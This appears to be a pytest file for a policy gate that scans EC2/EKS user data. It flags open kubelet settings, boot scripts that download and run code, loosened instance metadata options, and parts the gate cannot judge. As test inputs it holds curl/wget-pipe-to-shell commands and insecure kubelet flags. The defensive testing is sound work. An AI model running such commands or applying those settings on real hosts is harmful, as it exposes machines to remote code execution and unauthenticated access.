"""User data read as an instance reads it: each door it opens found in two spellings, the platform's own
NodeConfig passes, and a part that is none of what the platform writes is refused whatever it does."""

import base64
import gzip

import pytest

from policies.readers.user_data import findings, parts

NODE_CONFIG = """MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="//"

--//
Content-Type: application/node.eks.aws

apiVersion: node.eks.aws/v1alpha1
kind: NodeConfig
spec:
  kubelet:
{kubelet}

--//--
"""


def encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def kubelet(body: str) -> str:
    return encoded(NODE_CONFIG.format(kubelet=body))


def test_the_platforms_kind_of_node_config_passes():
    assert list(findings(kubelet('    flags: ["--node-labels=a=b", "--register-with-taints=x=y:NoSchedule"]'))) == []


@pytest.mark.parametrize(
    ("body", "said"),
    [
        ("    config: {authentication: {anonymous: {enabled: true}}}", "anonymous requests"),
        ('    flags: ["--anonymous-auth=true"]', "anonymous requests"),
        ("    config: {authorization: {mode: AlwaysAllow}}", "authorizes every request"),
        ('    flags: ["--authorization-mode=AlwaysAllow"]', "authorizes every request"),
        ("    config: {readOnlyPort: 10255}", "read-only port"),
        ('    flags: ["--read-only-port=10255"]', "read-only port"),
        # As the kubelet reads them: Go's other trues, and a flag and its value in one entry, split by systemd.
        ('    flags: ["--anonymous-auth=1"]', "anonymous requests"),
        ('    flags: ["--read-only-port 10255"]', "read-only port"),
        ('    flags: ["--node-labels=a=b --authorization-mode=AlwaysAllow"]', "authorizes every request"),
    ],
)
def test_a_kubelet_door_is_found_in_its_config_and_its_flags(body, said):
    (finding,) = findings(kubelet(body))
    assert said in finding


@pytest.mark.parametrize(
    "script",
    [
        "#!/bin/bash\ncurl -fsSL https://example.com/boot.sh | sudo bash\n",
        '#!/bin/sh\nbash -c "$(wget -qO- https://example.com/boot.sh)"\n',
        "#!/bin/sh\nwget -O- https://example.com/x.py | python3\n",
    ],
)
def test_a_download_run_at_boot_is_found_however_it_is_piped(script):
    assert list(findings(encoded(script))) == ["a text/x-shellscript part runs what it downloads at boot"]


@pytest.mark.parametrize(
    "script",
    [
        "#!/bin/sh\naws ec2 modify-instance-metadata-options --instance-id i-1 --http-tokens optional\n",
        "#!/bin/sh\naws ec2 modify-instance-metadata-options --instance-id i-1 --http-put-response-hop-limit 2\n",
    ],
)
def test_metadata_options_loosened_after_boot_are_found(script):
    assert list(findings(encoded(script))) == [
        "a text/x-shellscript part loosens the instance metadata options after boot"
    ]


@pytest.mark.parametrize("first_line", ["#include", "#cloud-boothook", "#cloud-config"])
def test_a_part_the_gate_cannot_judge_is_refused(first_line):
    (finding,) = findings(encoded(f"{first_line}\nhttps://example.com/x\n"))
    assert finding.startswith("a text/")


def test_a_bare_script_and_a_plain_text_are_one_part_each():
    assert list(parts(encoded("#!/bin/sh\necho hi\n"))) == [("text/x-shellscript", "#!/bin/sh\necho hi\n")]
    assert list(parts("not base64 at all!")) == [("text/plain", "not base64 at all!")]


MIXED = """MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="//"

--//
Content-Type: {kind}

{body}
--//--
"""


@pytest.mark.parametrize(
    "user_data",
    [
        encoded("#!/bin/sh\necho hi\n"),  # harmless, but not the platform's: the gate judges what it writes
        encoded("#!/bin/bash\ncurl -so /tmp/x https://example.com/x\nchmod +x /tmp/x\n/tmp/x\n"),  # no pipe
        encoded(MIXED.format(kind="text/cloud-config-archive", body="- type: text/x-shellscript\n  content: id\n")),
        encoded(MIXED.format(kind="application/x-gzip", body="H4sIAAAAAAAA")),
        base64.b64encode(gzip.compress(b"#!/bin/sh\ncurl https://example.com/x | sh\n")).decode(),
        encoded('[settings.kubernetes]\napi-server = "x"\n[other]\nx = 1\n'),  # Bottlerocket's and more
    ],
)
def test_a_part_that_is_none_of_what_the_platform_writes_is_refused(user_data):
    assert findings(user_data), user_data
